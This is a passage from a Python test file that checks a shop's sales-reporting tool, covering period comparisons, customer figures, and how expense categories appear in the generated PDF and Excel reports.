    rev = files.report.kpi("revenue").current
    assert f"{rev:,.2f} EUR" in md
    msg = report_message(files, sender="reports@shop.example", recipients=["owner@shop.example"])
    assert msg["Subject"] == "Müller & Söhne <Épicerie>: weekly report 24 - 30 June 2025"
    attachments = {p.get_filename(): p.get_content() for p in msg.iter_attachments()}
    assert attachments == {files.pdf.name: files.pdf.read_bytes(), files.xlsx.name: files.xlsx.read_bytes()}
    assert f"{rev:,.2f} EUR" in msg.get_body(("plain",)).get_content()


# -- comparisons, explanation and customers in the PDF and the workbook ------------------------
def add_customer_marts(con) -> None:
    from salesflow import customers

    customers.build_customer_daily(con, SHOP_START, SHOP_END)
    customers.build_customer_as_of(con, AS_OF)


@needs_pdftoppm
def test_weekly_report_shows_both_comparisons_and_why_revenue_moved(con, tmp_path):
    # a year of history behind the week: the same week last year has figures at 80 %
    con.execute("INSERT INTO marts.daily_sales SELECT * REPLACE (sale_date - INTERVAL 364 DAY "
                "AS sale_date, round(revenue * 0.8, 2) AS revenue) FROM marts.daily_sales "
                "WHERE sale_date BETWEEN ? AND ?", [AS_OF - timedelta(days=6), AS_OF])
    files = write_report(con, "weekly", AS_OF, tmp_path, SETTINGS, now=NOW)
    report = files.report
    assert len(report.explanation) == 3  # two on the previous week, one on last year
    assert "vs the previous week" in report.explanation[0]
    assert "vs the same week last year" in report.explanation[2]
    year_growth = report.comparisons[1].kpi("revenue").growth_pct
    assert year_growth == half_up(D(25), 1)  # 1 / 0.8 - 1, exactly 25 %
    page1 = " ".join(pdf_pages_text(files.pdf)[0].split())
    assert "Compared with previous week: 17 - 23 June 2025" in page1
    assert "Compared with same week last year: 25 June - 1 July 2024" in page1
    assert "+25.00 %" in page1  # the year-ago growth column of the key figures
    assert "Why revenue moved" in page1
    assert report.explanation[0][:60] in page1
    wb = openpyxl.load_workbook(files.xlsx)
    header, rows = read_sheet(wb["Summary"])
    assert header[:8] == ["Figure", "This period", "Previous week", "Change", "Growth",
                          "Same week last year", "Change", "Growth"]
    revenue = next(r for r in rows if r[0] == "Revenue (EUR)")
    assert as_decimal(revenue[5]) == report.comparisons[1].kpi("revenue").value
    assert as_decimal(revenue[7] * 100) == D("25.00")
    texts = [r[1] for r in rows if isinstance(r[1], str)]
    assert all(line in texts for line in report.explanation)


@needs_pdftoppm
def test_weekly_and_monthly_reports_carry_customer_figures(con, tmp_path):
    add_customer_marts(con)
    for kind, window in (("weekly", "7d"), ("monthly", "mtd")):
        files = write_report(con, kind, AS_OF, tmp_path, SETTINGS, now=NOW)
        c = files.report.customers
        p = files.report.period
        assert files.report.customers_note is None
        # the same customers and repeat rate as the KPI mart's window over the same days
        customers, repeat = con.execute(
            'SELECT customers, repeat_customer_rate FROM marts.kpis WHERE as_of = ? AND "window" = ?',
            [AS_OF, window]).fetchone()
        assert (c.customers, c.repeat_rate_pct) == (customers, repeat), kind
        new = con.execute("SELECT sum(new_customers) FROM marts.customer_daily WHERE sale_date BETWEEN ? AND ?",
                          [p.start, p.end]).fetchone()[0]
        assert c.new_customers == new and c.returning_customers == c.customers - new > 0
        segments = dict(con.execute("SELECT segment, count(*) FROM marts.customer_rfm WHERE as_of = ? "
                                    "GROUP BY 1", [AS_OF]).fetchall())
        assert dict(c.segments) == segments and len(segments) > 3
        whole = " ".join(" ".join(pdf_pages_text(files.pdf)).split())
        assert "Customers" in whole and f"New (first purchase in the period) {c.new_customers:,}" in whole
        assert f"Returning (bought before) {c.returning_customers:,}" in whole
        wb = openpyxl.load_workbook(files.xlsx)
        values = {r[0]: r[1] for r in wb["Customers"].iter_rows(values_only=True) if r[0]}
        assert values["New customers (first purchase in the period)"] == c.new_customers
        assert as_decimal(values["Repeat rate"] * 100) == repeat
        for name, n in c.segments:
            assert values[name] == n
    daily = load_report(con, "daily", AS_OF, SETTINGS, now=NOW)
    assert daily.customers is None and daily.customers_note is None


@needs_pdftoppm
def test_without_customer_ids_one_line_says_so(con, tmp_path):
    con.execute("UPDATE raw.sales SET customer_id = CASE WHEN sale_id % 2 = 0 THEN NULL ELSE '  ' END")
    files = write_report(con, "weekly", AS_OF, tmp_path, SETTINGS, now=NOW)
    assert files.report.customers is None
    note = files.report.customers_note
    assert "no customer ids" in note
    whole = " ".join(" ".join(pdf_pages_text(files.pdf)).split())
    assert whole.count(note) == 1
    wb = openpyxl.load_workbook(files.xlsx)
    assert wb["Customers"]["A2"].value == note


@needs_pdftoppm
def test_a_month_of_many_expense_categories_stays_short_in_the_pdf(con, tmp_path):
    con.executemany("INSERT INTO raw.expenses VALUES (?, ?, ?, ?, 'x', 'vendor', 'f.xlsx', ?)",
                    [(f"X{i}", date(2025, 6, 1 + i % 28), f"Category {i:02d}", D(10 + i), datetime(2025, 6, 20))
                     for i in range(60)])
    build_expense_marts(con, AS_OF)
    files = write_report(con, "daily", AS_OF, tmp_path, SETTINGS, now=NOW)
    texts = pdf_pages_text(files.pdf)
    assert len(texts) <= 6
    whole = " ".join(" ".join(texts).split())
    assert "and 45 more expense categories" in whole
    assert "Category 59" in whole and "Category 00" not in whole  # the largest first
    wb = openpyxl.load_workbook(files.xlsx, read_only=True)
    assert len(read_sheet(wb["Expenses"])[1]) == 60
